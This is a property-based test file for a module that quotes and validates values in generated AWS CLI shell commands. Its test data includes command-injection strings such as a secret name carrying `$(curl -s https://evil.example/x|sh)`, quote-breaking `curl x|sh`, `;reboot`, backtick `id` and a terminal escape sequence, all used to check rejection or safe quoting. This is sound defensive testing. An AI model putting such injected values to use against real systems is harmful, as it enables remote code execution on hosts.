import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  assignment,
  clean,
  command,
  commentLine,
  heredoc,
  ifValid,
  isValidArn,
  isValidName,
  jsonText,
  output,
  shellQuote,
  variable,
  type Word,
} from '../../src/core/shell.js';
import { asUtf8, CONTROL, hostileString, runInBash } from '../support/shell.js';

describe(shellQuote.name, () => {
  it('gives bash, for any string, exactly that string (its control characters made spaces) as one argument', () => {
    fc.assert(
      fc.property(hostileString, (value) => {
        const run = runInBash(`aws ${shellQuote(value)}`);

        expect(run.parses).toBe(true);
        expect(run.errors).toBe('');
        expect(run.commands.map((c) => c.argv)).toEqual([['aws', asUtf8(clean(value))]]);
      }),
      { numRuns: 150 },
    );
  });

  it('leaves plain names bare and quotes the rest', () => {
    expect(shellQuote('vpc-0a1b2c3d')).toBe('vpc-0a1b2c3d');
    expect(shellQuote('arn:aws:secretsmanager:us-east-1:111122223333:secret:prod/db-Xy12Ab')).toBe(
      'arn:aws:secretsmanager:us-east-1:111122223333:secret:prod/db-Xy12Ab',
    );
    expect(shellQuote('payments/signing+key=v2@eu')).toBe('payments/signing+key=v2@eu');
    expect(shellQuote('#ecs/app')).toBe("'#ecs/app'");
    expect(shellQuote('=leading-equals')).toBe("'=leading-equals'");
    expect(shellQuote('')).toBe("''");
    expect(shellQuote("/ecs/app'; curl x|sh; echo '")).toBe("'/ecs/app'\\''; curl x|sh; echo '\\'''");
  });

  it('never lets a value end its line', () => {
    fc.assert(
      fc.property(hostileString, (value) => {
        expect(shellQuote(value)).not.toMatch(CONTROL);
      }),
    );
  });
});

describe(command.name, () => {
  const SG = 'out-create-security-group';
  /** A word, and the argument bash must make of it. */
  const word = fc.oneof(
    hostileString.map((v) => ({ word: v as Word, argument: clean(v) })),
    fc.constant({ word: variable('ENDPOINT_SG') as Word, argument: SG }),
    fc.tuple(hostileString, hostileString).map(([a, b]) => ({
      word: [a, variable('ENDPOINT_SG'), b] as Word,
      argument: `${clean(a)}${SG}${clean(b)}`,
    })),
    fc.tuple(hostileString, hostileString).map(([a, b]) => ({
      word: [a, output(command(['aws', 'ec2', b])), a] as Word,
      argument: `${clean(a)}out-${clean(b)}${clean(a)}`,
    })),
  );

  it('gives bash, for any words, exactly those arguments: literals as they are, the variable its value, the output its text', () => {
    fc.assert(
      fc.property(fc.array(word, { maxLength: 5 }), hostileString, (words, comment) => {
        const text = [
          assignment('ENDPOINT_SG', output(command(['aws', 'ec2', 'create-security-group']))),
          command(['aws', ...words.map((w) => w.word)], comment),
        ].join('\n');
        const run = runInBash(text);

        expect(run.parses).toBe(true);
        expect(run.errors).toBe('');
        expect(run.commands.filter((c) => c.depth === 0).map((c) => c.argv)).toEqual([
          ['aws', ...words.map((w) => asUtf8(w.argument))],
        ]);
      }),
      { numRuns: 100 },
    );
  });

  it('keeps the readable forms: a variable in double quotes, an option value bare', () => {
    expect(
      command([
        'aws',
        'ec2',
        'authorize-security-group-ingress',
        '--group-id',
        variable('ENDPOINT_SG'),
        '--ip-permissions',
        ['IpProtocol=tcp,FromPort=443,ToPort=443,UserIdGroupPairs=[{GroupId=', variable('ENDPOINT_SG'), '}]'],
      ]),
    ).toBe(
      'aws ec2 authorize-security-group-ingress --group-id "$ENDPOINT_SG" --ip-permissions "IpProtocol=tcp,FromPort=443,ToPort=443,UserIdGroupPairs=[{GroupId=$ENDPOINT_SG}]"',
    );
  });
});

describe(heredoc.name, () => {
  it('writes, for any lines, exactly those lines to the file (a delimiter among them included)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.oneof(hostileString, fc.constant('EOF'), fc.constant('EOF_2')), { maxLength: 4 }),
        (lines) => {
          const content = lines.map((l) => l.replace(/\n/g, ' ')).join('\n');
          const run = runInBash(heredoc('policy.json', content));

          expect(run.parses).toBe(true);
          expect(run.errors).toBe('');
          expect(run.files['policy.json']).toBe(`${asUtf8(content.split('\n').map(clean).join('\n'))}\n`);
        },
      ),
      { numRuns: 80 },
    );
  });
});

describe(jsonText.name, () => {
  it('keeps, for any value, its meaning (JSON.parse gives it back) with no control character in the text', () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.array(hostileString, { maxLength: 3 }), (value, strings) => {
        const doc = { value, strings };
        const text = jsonText(doc);

        expect(text).not.toMatch(CONTROL);
        expect(JSON.parse(text)).toEqual(JSON.parse(JSON.stringify(doc)));
      }),
    );
  });
});

describe(commentLine.name, () => {
  it('is one line that bash runs nothing of, whatever its text', () => {
    fc.assert(
      fc.property(hostileString, (text) => {
        const line = commentLine(text);
        expect(line.split('\n')).toHaveLength(1);
        expect(runInBash(line).commands).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });
});

describe(isValidName.name, () => {
  it.each([
    ['Secrets Manager secret name', 'prod/billing/db', true],
    ['Secrets Manager secret name', 'payments/signing+key=v2@eu', true],
    ['Secrets Manager secret name', 'prod/db$(curl -s https://evil.example/x|sh)', false],
    ['SSM parameter name', '/orders/prod/DATABASE_URL', true],
    ['SSM parameter name', '/payments/prod/`id`', false],
    ['SSM parameter name', '/ledger/prod/DATABASE_URL\nWHAT IS WRONG', false],
    ['CloudWatch Logs log group name', '/ecs/app#blue', true],
    ['CloudWatch Logs log group name', "/ecs/app'; curl x|sh; echo '", false],
    ['ECR repository name', 'team/checkout-api', true],
    ['ECR repository name', 'Checkout', false],
    ['ECR repository name', 'jobs$(id)', false],
    ['IAM role name', 'ecsTaskExecutionRole', true],
    ['IAM role name', 'role;reboot', false],
    ['security group id', 'sg-0123abcd', true],
    ['security group id', 'sg-0123;id', false],
    ['IPv4 CIDR', '10.0.0.0/16', true],
    ['IPv4 CIDR', '10.0.0.0/16 --x', false],
  ] as const)('a %s: %j is valid: %s', (kind, value, valid) => {
    expect(isValidName(kind, value)).toBe(valid);
  });

  it('checks an ARN a statement names by its service: a log group by its name, an S3 key by anything but a control character', () => {
    expect(isValidArn('arn:aws:logs:us-east-1:111122223333:log-group:/ecs/app:*')).toBe(true);
    expect(isValidArn("arn:aws:logs:us-east-1:111122223333:log-group:/ecs/app'x:*")).toBe(false);
    expect(isValidArn(`arn:aws:s3:::config-bucket/prod/app"}]}' ; sh ; echo '.env`)).toBe(true);
    expect(isValidArn('arn:aws:s3:::config-bucket/prod/a\u001b]52;c;eA==\u0007.env')).toBe(false);
    expect(isValidArn('arn:aws:kms:us-east-1:111122223333:key/5c1e8a2f-3b4d-4e6f-9a7b-8c9d0e1f2a3b')).toBe(
      true,
    );
    expect(isValidArn('*')).toBe(true);
  });

  it('takes no more than a few milliseconds on a long name made to backtrack', () => {
    const long = `${'a-'.repeat(20_000)}!`;
    const started = performance.now();
    isValidName('ECR repository name', long);
    isValidArn(`arn:aws:ecr:us-east-1:111122223333:repository/${long}`);
    expect(performance.now() - started).toBeLessThan(50);
  });
});

describe(ifValid.name, () => {
  it('gives no command for a name AWS would not accept: it says which, quoted, in a comment', () => {
    const cli = ifValid(
      [['SSM parameter name', '/p/`id`']],
      () => 'aws ssm describe-parameters',
      'fix valueFrom in the task definition',
    );

    expect(cli).toBe(
      '# no command: "/p/`id`" is not a valid SSM parameter name: fix valueFrom in the task definition',
    );
  });
});
